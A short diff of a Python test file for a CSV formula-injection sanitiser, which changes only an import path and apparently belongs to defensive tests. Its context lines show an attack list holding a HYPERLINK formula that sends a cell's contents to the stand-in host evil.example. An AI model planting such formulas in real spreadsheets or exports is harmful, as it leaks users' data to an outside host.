@@ -11,7 +11,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from opsportal.csvsafe import FORMULA_STARTS, csv_text, safe_cell, safe_row
+from opsportal.kit.csvsafe import FORMULA_STARTS, csv_text, safe_cell, safe_row
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Open")',
